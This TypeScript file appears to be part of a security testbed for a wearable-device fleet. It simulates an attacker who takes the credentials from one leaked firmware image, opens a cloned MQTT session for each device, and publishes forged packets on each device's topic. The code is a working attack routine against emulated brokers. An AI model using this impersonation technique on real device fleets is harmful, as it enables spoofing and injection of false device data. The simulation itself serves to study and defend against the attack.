/**
 * What an attacker does with one dumped firmware image (source chapter §17.5, "Mass device
 * compromise from a single firmware leak"): boot its credentials once per device of the fleet,
 * under a client id of its own ("<device>-clone"), and publish a forged packet on each device's
 * E3 topic. The same code runs in-process (local placement) and in a container.
 */
import { randomBytes } from 'node:crypto';
import { e3Topic } from '../emulators/wearable.ts';
import { FirmwareSession, type BrokerEndpoints } from './firmware-client.ts';
import type { FirmwareConfig } from './firmware-image.ts';

export interface AttackTarget {
  readonly deviceId: string;
  /** Not a secret: it is in clear in every E3 packet the device sends (docs/architecture.md §4 The E3 packet). */
  readonly pseudonymHex: string;
}

export interface AttackOutcome {
  readonly target: string;
  readonly clientId: string;
  readonly connected: boolean;
  readonly error?: string;
}

/** A 96-byte packet with the target's pseudonym in its header and random bytes elsewhere: the attacker holds no E3 key. */
export function forgedPacket(pseudonymHex: string): Uint8Array {
  const p = randomBytes(96);
  Buffer.from(pseudonymHex, 'hex').copy(p, 0);
  p.writeUInt32BE(Math.floor(Date.now() / 1000), 16);
  return p;
}

/**
 * Every clone connects first, then each publishes: a broker that closes a session over a refused
 * PUBLISH (Aedes) and one that acknowledges it and drops it (Mosquitto, MQTT 3.1.1) see the same
 * clones connected at once. The sessions stay open (`keep`) until the caller closes them.
 */
export async function attackWithLeakedImage(leaked: FirmwareConfig, targets: readonly AttackTarget[], broker: BrokerEndpoints, keep: FirmwareSession[]): Promise<AttackOutcome[]> {
  const clones = targets.map((t) => ({ t, session: new FirmwareSession(leaked, `${t.deviceId}-clone`) }));
  keep.push(...clones.map((c) => c.session));
  const connected = await Promise.all(clones.map((c) => c.session.connect(broker)));
  for (const [i, c] of clones.entries()) if (connected[i]?.connected) await c.session.publish(e3Topic(c.t.pseudonymHex), forgedPacket(c.t.pseudonymHex));
  return clones.map((c, i) => ({ target: c.t.deviceId, clientId: c.session.clientId, connected: connected[i]?.connected === true, ...(connected[i]?.error ? { error: connected[i]?.error } : {}) }));
}
